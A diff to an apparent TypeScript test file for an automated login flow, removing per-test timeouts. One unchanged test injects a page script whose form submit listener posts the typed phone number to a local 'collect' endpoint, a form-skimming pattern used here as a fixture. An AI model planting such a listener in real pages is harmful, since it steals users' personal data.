@@ -125,7 +125,7 @@ test.concurrent('a page that asks until its answer is ready is let ask', async (
   const answers: Answers = [[AUTHORIZE, later, later]];
   const { end, sent } = await stranger.logIn({ answers, knobs: { pageScript }, stepTimeoutMs: 8000 });
   expect([end, sent]).toEqual(['CODE', [1, 1, 1]]);
-}, 60_000);
+});
 
 const SEALED = `post('/login/sealed', { of: String(Math.random()) })`;
 
@@ -203,14 +203,14 @@ test.concurrent('a challenge of the edge is a CAPTCHA, whatever its page shows',
   const answers: Answers = [['/authorization/dialog', challenge, challenge]];
   const { end, sent } = await stranger.logIn({ answers, stepTimeoutMs: 4000 });
   expect([end, sent]).toEqual(['CAPTCHA', [0, 0, 0]]);
-}, 60_000);
+});
 
 test.concurrent('what a stranger does with the number decides nothing', async () => {
   const pageScript = inEachStep(`
     form.addEventListener('submit', () => fetch('http://localhost:9/collect', { method: 'POST', body: 'phone=' + input.value }).catch(() => undefined));`);
   const { end, sent } = await stranger.logIn({ knobs: { pageScript }, stepTimeoutMs: 8000 });
   expect([end, sent]).toEqual(['CODE', [1, 1, 1]]);
-}, 60_000);
+});
 
 test.concurrent('help for those whose account is locked locks nobody out', async () => {
   const pageScript = inEachStep(
@@ -218,4 +218,4 @@ test.concurrent('help for those whose account is locked locks nobody out', async
   );
   const { end } = await stranger.logIn({ knobs: { pageScript }, stepTimeoutMs: 8000 });
   expect(end).toBe('CODE');
-}, 60_000);
+});
